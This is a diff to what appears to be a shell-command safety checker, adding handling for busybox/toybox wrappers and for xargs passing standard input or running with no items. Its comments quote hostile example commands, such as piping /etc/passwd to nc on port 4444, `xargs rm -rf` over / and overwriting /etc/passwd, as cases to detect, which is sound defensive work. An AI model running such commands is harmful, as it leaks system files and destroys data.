@@ -634,6 +634,8 @@ for _names, _opts, _pos in (
         runner(_n)
 
 runner("flock", "runuser", "systemd-run", "watch", "nsenter", "exec", "command", "env", "xargs")
+# `busybox certbot … --dry-run --pre-hook …`: the flags are the applet's, not busybox's (gen12)
+runner("busybox", "toybox")
 
 
 @handles("flock")
@@ -975,6 +977,10 @@ def _xargs(cmd: Cmd) -> None:
     elif arg_file is None and cmd.stdin.kind == STDIN_STATIC and cmd.stdin.text.strip():
         # `echo / | xargs rm -rf`: the items are known text.
         listed = [Word(t, cmd.start, cmd.end) for t in _xargs_items(own, cmd.stdin.text)][:16]
+    # With -a the items come from the file and xargs leaves its own standard input to the
+    # command (`xargs -a list nc host 4444 < /etc/passwd` sends the file); otherwise the
+    # command reads /dev/null (gen12).
+    child_stdin = cmd.stdin if arg_file is not None else NO_STDIN
     items = [Word("{items}", cmd.start, cmd.end, dynamic=True)]
     if listed:
         # `ls | xargs rm`, `find / | xargs rm -rf`: the items are everything listed.
@@ -999,16 +1005,24 @@ def _xargs(cmd: Cmd) -> None:
                     else w
                     for w in tail
                 ],
-                NO_STDIN,
+                child_stdin,
             )
     else:
         if arg_file is None and cmd.stdin.kind == STDIN_STATIC and not cmd.stdin.text.strip():
             items = []  # `echo | xargs CMD`: no item, the command runs once as written
+        if arg_file is not None and arg_file.text in ("/dev/null", "NUL", "nul"):
+            items = []  # `xargs -a /dev/null CMD`: no item either (gen12)
         words = [
             *tail,
             *(Word(w.text, tail[-1].start, tail[-1].end, w.dynamic, w.glob) for w in items),
         ]
-        cmd.judge(words, NO_STDIN)
+        cmd.judge(words, child_stdin)
+        runs_empty = not (own.short("r") or own.long("--no-run-if-empty"))
+        if len(tail) >= 3 and items and all(w.dynamic for w in items) and runs_empty:
+            # Items nobody can see may be none at all, and then xargs (without -r) runs the
+            # command once as written: `… | xargs cp /tmp/x /etc/passwd` overwrites
+            # /etc/passwd, though with an item appended the last operand is the item (gen12).
+            cmd.judge(list(tail), child_stdin)
     if from_listing and tail[0].text in ("rm", "shred", "unlink", "srm"):
         # Policy: a listing of the working directory fed to `xargs rm` deletes all of it,
         # with or without -r (directories stay, every file goes).
